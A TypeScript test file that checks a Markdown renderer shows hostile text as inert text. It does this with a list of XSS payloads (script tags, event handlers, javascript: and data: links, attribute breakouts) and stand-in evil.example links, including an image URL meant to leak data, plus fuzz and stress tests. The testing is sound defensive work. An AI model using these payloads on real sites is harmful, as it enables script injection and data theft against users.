// The page shows what agents, models and the web wrote as text: no element, attribute or address comes out of it that was not meant.

import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import fc from 'fast-check'
import { parseHTML } from 'linkedom'

/** As much of an element as these tests look at. */
interface Element {
  tagName: string
  attributes: Iterable<{ name: string; value: string }>
  children: ArrayLike<Element> & Iterable<Element>
  textContent: string | null
  querySelector(selector: string): Element | null
  querySelectorAll(selector: string): ArrayLike<Element> & Iterable<Element>
  getAttribute(name: string): string | null
}

const page = new URL('../../src/http/page/', import.meta.url)
const { document } = parseHTML('<!doctype html><html><body></body></html>')
Object.assign(globalThis, { document })
const { readable } = (await import(new URL('markdown.js', page).href)) as {
  readable: (text: string) => Element[]
}
const { draw, el } = (await import(new URL('dom.js', page).href)) as {
  draw: (parent: Element, rows: unknown[], row: (row: never) => Element, empty: string[]) => void
  el: (tag: string, properties: object, ...children: unknown[]) => Element
}

const allowed = [
  'P',
  'H3',
  'H4',
  'H5',
  'H6',
  'UL',
  'OL',
  'LI',
  'PRE',
  'CODE',
  'BLOCKQUOTE',
  'HR',
  'STRONG',
  'EM',
  'A',
  'DIV',
]

/** Puts a text on a page and returns the box; throws when anything stands there that Markdown may not make. */
function shown(text: string): Element {
  const box = el('div', {}, readable(text))
  for (const element of [box, ...box.querySelectorAll('*')]) {
    assert.ok(allowed.includes(element.tagName), `${element.tagName} from ${text}`)
    for (const { name, value } of element.attributes) {
      assert.ok(element.tagName === 'A' && ['href', 'rel', 'target'].includes(name), `${name} from ${text}`)
      if (name === 'href') assert.match(value, /^https?:\/\//)
    }
  }
  return box
}

const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:x)',
  '[x](//evil.example)',
  '![x](https://evil.example/steal?q=1)',
  '![x](http://evil.example/pixel.gif)',
  '<a href="javascript:alert(1)">x</a>',
  '<https://evil.example>',
  '```html\n<script>alert(1)</script>\n```',
  '`<script>`',
  '> <script>alert(1)</script>',
  '- <img src=x onerror=alert(1)>\n  > <b>x</b>',
  '# <style>*{display:none}</style>',
  '<details open ontoggle=alert(1)>',
  '&lt;script&gt;',
  '**<b onclick=x>y</b>**',
  '[a](https://x.example/" onmouseover="alert(1))',
  '```mermaid\ngraph TD; A-->B\n```',
  '<math><mtext></mtext></math>',
  '{{constructor.constructor("alert(1)")()}}',
  '\u202e<script>',
  '<!-- x --><form action=//evil>',
]

describe('the page', () => {
  it('shows hostile text as text, wherever in Markdown it stands', () => {
    for (const payload of payloads) {
      for (const text of [
        payload,
        `# ${payload}`,
        `- ${payload}`,
        `> ${payload}`,
        `1. ${payload}`,
        `**${payload}**`,
        `a ${payload} b`,
      ])
        shown(text)
    }
    assert.ok(shown('<script>alert(1)</script>').textContent?.includes('<script>alert(1)</script>'))
  })

  it('loads no picture: an image is a link that somebody must click', () => {
    const box = shown('![x](https://evil.example/steal?q=1)')
    assert.equal(box.querySelectorAll('img').length, 0)
    assert.equal(box.querySelector('a')?.getAttribute('rel'), 'noopener noreferrer')
  })

  it('no text makes it hang or throw', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        '#',
        '- ',
        '> ',
        '```',
        '\n',
        '  ',
        '1. ',
        '**',
        '*',
        '`',
        '[',
        '](',
        ')',
        'https://x',
        '---',
        ...payloads,
      ),
      fc.string({ maxLength: 8 }),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => void shown(pieces.join(''))),
      { numRuns: 1_500 },
    )
    const start = performance.now()
    for (const much of [
      '*'.repeat(20_000),
      '['.repeat(20_000),
      '> '.repeat(200),
      '`'.repeat(20_001),
      'a\n'.repeat(20_000),
    ])
      shown(much)
    assert.ok(performance.now() - start < 3_000)
  })

  it('reads headings, lists with quotes inside, code and emphasis', () => {
    const box = shown(
      '# Title\n\nA **bold** and *soft* `code`.\n\n- one\n  > said\n- two\n\n1. first\n\n```\nx < y\n```',
    )
    const tags = [...box.querySelectorAll('*')].map((element) => element.tagName)
    assert.deepEqual(tags, [
      'H3',
      'P',
      'STRONG',
      'EM',
      'CODE',
      'UL',
      'LI',
      'BLOCKQUOTE',
      'P',
      'LI',
      'OL',
      'LI',
      'PRE',
      'CODE',
    ])
  })

  it('leaves what has not changed alone, so that focus and open details survive', () => {
    const list = el('ul', {})
    const row = (text: string) => el('li', {}, text)
    draw(list, ['a', 'b'], row as never, ['none'])
    const [first] = list.children
    draw(list, ['a', 'b'], row as never, ['none'])
    assert.equal(list.children[0], first)
    draw(list, [], row as never, ['none'])
    assert.equal(list.textContent, 'none')
  })
})
